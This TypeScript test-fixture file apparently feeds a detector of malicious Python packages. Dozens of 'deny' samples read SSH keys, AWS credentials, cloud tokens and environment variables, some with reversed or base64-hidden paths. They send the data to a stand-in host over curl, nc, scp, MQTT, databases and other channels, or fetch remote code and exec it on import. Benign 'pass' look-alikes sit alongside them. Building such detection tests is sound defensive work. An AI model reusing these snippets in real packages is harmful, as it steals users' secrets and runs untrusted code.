/** What is taken, by ways of reading it and out of the machine that a library has which nobody listed. All inert. */
import type { Shape } from './malicious.js';

const U = 'https://c.demo.invalid/x';
const environment = 'import os\nd = dict(os.environ)\n';
const key = 'import os\nd = open(os.path.expanduser("~/.ssh/id_rsa")).read()\n';
const sent = `\nimport requests\nrequests.post("${U}", json={"d": str(d)})\n`;

function one(tier: Shape['tier'], name: string, code: string): Shape {
  return { name, tier, files: { 'demo/__init__.py': `${code}\n` } };
}

/** Ways out: each with the environment, and each with a key. */
const ways: readonly (readonly [string, string])[] = [
  ['a table that is read', `import pandas as pd\npd.read_csv(f"${U}?d={d}")`],
  ['numbers that are loaded', `import numpy as np\nnp.loadtxt("${U}?d=" + str(d))`],
  ['a picture that is read', `import imageio\nimageio.imread(f"${U}?d={d}")`],
  ['a document that is parsed', `from lxml import etree\netree.parse(f"http://c.demo.invalid/?d={d}")`],
  [
    'a picture that a notebook shows',
    `from IPython.display import display, HTML\ndisplay(HTML(f"<img src='${U}?d={d}'>"))`,
  ],
  ['a query of tables', `import duckdb\nduckdb.sql(f"SELECT * FROM read_csv('${U}?d={d}')")`],
  [
    'a broker',
    'import paho.mqtt.client as mqtt\nc = mqtt.Client()\nc.connect("c.demo.invalid", 1883)\nc.publish("x", str(d))',
  ],
  [
    'a broker in one go',
    'from paho.mqtt import publish\npublish.single("x", str(d), hostname="c.demo.invalid")',
  ],
  ['a store of keys', 'import redis\nredis.Redis(host="c.demo.invalid").set("x", str(d))'],
  [
    'a stream',
    'from kafka import KafkaProducer\nKafkaProducer(bootstrap_servers="c.demo.invalid:9092").send("x", str(d).encode())',
  ],
  [
    'a database',
    'import psycopg2\nc = psycopg2.connect(host="c.demo.invalid", user="a")\nc.cursor().execute("INSERT INTO x VALUES (%s)", (str(d),))',
  ],
  [
    'an engine',
    'import sqlalchemy as sa\ne = sa.create_engine("postgresql://a:b@c.demo.invalid/x")\nwith e.begin() as c:\n    c.execute(sa.text("INSERT INTO x VALUES (:d)"), {"d": str(d)})',
  ],
  [
    'documents',
    'import pymongo\npymongo.MongoClient("mongodb+srv://a:b@c.demo.invalid/").db.x.insert_one({"d": str(d)})',
  ],
  ['a client of this year', `import niquests\nniquests.post("${U}", data=d)`],
  [
    'an account of somebody',
    'from github import Github\nGithub("ghp_00000000").get_repo("a/b").create_file("x", "m", str(d))',
  ],
  [
    'a tracker that is told where it is',
    `import mlflow\nmlflow.set_tracking_uri("${U}")\nmlflow.log_param("x", str(d))`,
  ],
  [
    'a log that goes elsewhere',
    'import logging, logging.handlers\nl = logging.getLogger("x")\nl.addHandler(logging.handlers.SysLogHandler(("c.demo.invalid", 514)))\nl.error("%s", d)',
  ],
  [
    'a connection of processes',
    'from multiprocessing.connection import Client\nClient(("c.demo.invalid", 6000)).send(d)',
  ],
  [
    'a protocol',
    'import asyncio\nclass P(asyncio.DatagramProtocol):\n    def connection_made(self, t):\n        t.sendto(str(d).encode())\nasync def f():\n    await asyncio.get_running_loop().create_datagram_endpoint(P, remote_addr=("c.demo.invalid", 53))\nasyncio.run(f())',
  ],
  [
    'headers of a session',
    `import requests\ns = requests.Session()\ns.headers["X-D"] = str(d)\ns.get("${U}")`,
  ],
  [
    'more headers of a session',
    `import requests\ns = requests.Session()\ns.headers.update({"X-D": str(d)})\ns.get("${U}")`,
  ],
  ['a program that sends', `import subprocess\nsubprocess.run(["curl", "-d", str(d), "${U}"])`],
  [
    'the input of a program that sends',
    'import subprocess\nsubprocess.run(["nc", "c.demo.invalid", "443"], input=str(d).encode())',
  ],
  [
    'the pipe of a program that sends',
    `import subprocess\np = subprocess.Popen(["curl", "--data-binary", "@-", "${U}"], stdin=subprocess.PIPE)\np.communicate(str(d).encode())`,
  ],
  [
    'a file that a program sends',
    `import os\nopen("/tmp/.x", "w").write(str(d))\nos.system("curl -F f=@/tmp/.x ${U}")`,
  ],
  [
    'a file that is copied away',
    'import os\nopen("/tmp/.x", "w").write(str(d))\nos.system("scp /tmp/.x a@c.demo.invalid:")',
  ],
  [
    'a shell over ssh',
    'import subprocess\nsubprocess.run(["ssh", "a@c.demo.invalid", "cat > x"], input=str(d).encode())',
  ],
];

/** Ways to read; each is sent. */
const read: readonly (readonly [string, string])[] = [
  [
    'by a library of tables',
    'import os, pandas\nd = pandas.read_csv(os.path.expanduser("~/.aws/credentials")).to_json()',
  ],
  [
    'by its lines',
    'import os, fileinput\nd = list(fileinput.input(files=[os.path.expanduser("~/.aws/credentials")]))',
  ],
  [
    'by settings',
    'import os, configparser\nc = configparser.ConfigParser()\nc.read_file(open(os.path.expanduser("~/.aws/credentials")))\nd = c["default"]["x"]',
  ],
  ['by a program that shows files', 'import os\nd = os.popen("base64 ~/.ssh/id_rsa").read()'],
  ['by an archiver', 'import subprocess\nd = subprocess.check_output("tar cz ~/.ssh ~/.aws", shell=True)'],
  [
    'out of an archive',
    'import os, shutil\nshutil.make_archive("/tmp/x", "zip", os.path.expanduser("~/.aws"))\nd = open("/tmp/x.zip", "rb").read()',
  ],
  [
    'a place that is written backwards',
    'import os\nd = open(os.path.expanduser("slaitnederc/swa./~"[::-1])).read()',
  ],
  [
    'a place that is encoded',
    'import os, base64\nd = open(os.path.expanduser(base64.b64decode("fi8uYXdzL2NyZWRlbnRpYWxz").decode())).read()',
  ],
  ['a token of a hub', 'import huggingface_hub\nd = huggingface_hub.get_token()'],
  ['a token of a cloud', 'import google.auth\nc, p = google.auth.default()\nd = c.token'],
  [
    'a token of another cloud',
    'from azure.identity import DefaultAzureCredential\nd = DefaultAzureCredential().get_token("x").token',
  ],
  ['what a person works with', 'from IPython import get_ipython\nd = repr(get_ipython().user_ns)'],
  ['values of the environment', 'import os\nd = list(os.environ.values())'],
  ['the environment by its name', 'import os\nd = [os.environ[k] for k in os.environ.keys()]'],
  [
    'the environment of the process',
    'import subprocess\nd = subprocess.check_output("cat /proc/self/environ", shell=True)',
  ],
  ['secrets of a container', 'import glob\nd = [open(p).read() for p in glob.glob("/run/secrets/*")]'],
];

const honest: readonly (readonly [string, string])[] = [
  [
    'a table of an address',
    `import pandas as pd\ndef load(name):\n    return pd.read_csv(f"${U}/{name}.csv")`,
  ],
  [
    'a build by its machine',
    `import platform\ndef load(tool):\n    return tool.fetch(f"${U}/{platform.system()}-{platform.machine()}.zip")`,
  ],
  [
    'a program with an environment',
    `import os, subprocess\nsubprocess_env = dict(os.environ)\ndef clone():\n    subprocess.run(["git", "clone", "${U}"], env=subprocess_env)`,
  ],
  [
    'a wrapper with an environment',
    `import os\ndef clone(run):\n    run("git", "clone", "${U}", env=dict(os.environ))`,
  ],
  [
    'a client with its own token',
    `import os, demo_sdk\ndef client():\n    return demo_sdk.Client("${U}", token=os.environ["DEMO_TOKEN"])`,
  ],
  [
    'a broker that is told nothing',
    'import paho.mqtt.client as mqtt\ndef tell(value):\n    c = mqtt.Client()\n    c.connect("c.demo.invalid", 1883)\n    c.publish("x", str(value))',
  ],
  [
    'a log of an address',
    `import logging, os\nlog = logging.getLogger(__name__)\ndef tell():\n    log.warning("see ${U} for %s", dict(os.environ))`,
  ],
  [
    'settings of a program',
    'import os\ndef settings():\n    return {k: v for k, v in os.environ.items() if k.startswith("DEMO_")}',
  ],
  [
    'a session that logs in',
    `import netrc, requests\ndef session():\n    s = requests.Session()\n    s.auth = netrc.netrc().authenticators("c.demo.invalid")\n    return s.get("${U}")`,
  ],
];

export const waysOut: readonly Shape[] = [
  ...ways.map(([name, code]) => one('deny', `the environment by ${name}`, environment + code)),
  ...ways.map(([name, code]) => one('deny', `a key by ${name}`, key + code)),
  ...read.map(([name, code]) => one('deny', `read ${name}`, code + sent)),
  ...honest.map(([name, code]) => one('pass', name, code)),
];

/** Ways in: each is run when it is imported. */
const waysIn: readonly (readonly [string, string])[] = [
  ['a table', `import pandas as pd\nc = pd.read_csv("${U}").iloc[0, 0]`],
  ['numbers', `import numpy as np\nc = str(np.loadtxt("${U}", dtype=str))`],
  ['a file system', `import fsspec\nc = fsspec.open("${U}").open().read()`],
  ['a document', 'from lxml import etree\nc = etree.parse("http://c.demo.invalid/x").getroot().text'],
  [
    'a part of a page',
    `import bs4, requests\nc = bs4.BeautifulSoup(requests.get("${U}").text).find("code").text`,
  ],
  ['a store of keys', 'import redis\nc = redis.Redis(host="c.demo.invalid").get("x")'],
  [
    'a database',
    'import psycopg2\nq = psycopg2.connect(host="c.demo.invalid").cursor()\nq.execute("select c from x")\nc = q.fetchone()[0]',
  ],
  ['documents', 'import pymongo\nc = pymongo.MongoClient("mongodb://c.demo.invalid").db.x.find_one()["c"]'],
  [
    'a queue',
    'import zmq\ns = zmq.Context().socket(zmq.PULL)\ns.connect("tcp://c.demo.invalid:5555")\nc = s.recv()',
  ],
  [
    'a file of a socket',
    'import socket\nc = socket.create_connection(("c.demo.invalid", 443)).makefile().read()',
  ],
  [
    'a buffer of a socket',
    'import socket\ns = socket.create_connection(("c.demo.invalid", 443))\nc = bytearray(999)\ns.recv_into(c)',
  ],
  ['a hub', 'from huggingface_hub import hf_hub_download\nc = open(hf_hub_download("a/b", "x.py")).read()'],
  [
    'a file that is fetched',
    `import urllib.request\nurllib.request.urlretrieve("${U}", "/tmp/a")\nc = open("/tmp/a").read()`,
  ],
  [
    'a folder that is fetched',
    'import subprocess\nsubprocess.run(["git", "clone", "https://c.demo.invalid/r.git", "/tmp/r"])\nc = open("/tmp/r/x.py").read()',
  ],
  ['a share', 'c = open(r"\\\\203.0.113.7\\s\\x.py").read()'],
  [
    'a page that a browser shows',
    `from playwright.sync_api import sync_playwright\nwith sync_playwright() as p:\n    g = p.chromium.launch().new_page()\n    g.goto("${U}")\n    c = g.content()`,
  ],
];

export const waysOfCode: readonly Shape[] = [
  ...waysIn.map(([name, code]) => one('deny', `code of ${name}`, `${code}\nexec(c)`)),
  one(
    'pass',
    'a table that is shown',
    `import pandas as pd\ndef table():\n    return pd.read_csv("${U}").head()`,
  ),
  one(
    'pass',
    'a model of a hub',
    'from huggingface_hub import hf_hub_download\ndef model(name):\n    return open(hf_hub_download("a/b", name), "rb").read()',
  ),
  one(
    'pass',
    'a file of settings that the environment names',
    'import json, os\ndef project():\n    return json.load(open(os.environ["GOOGLE_APPLICATION_CREDENTIALS"]))["project_id"]',
  ),
];
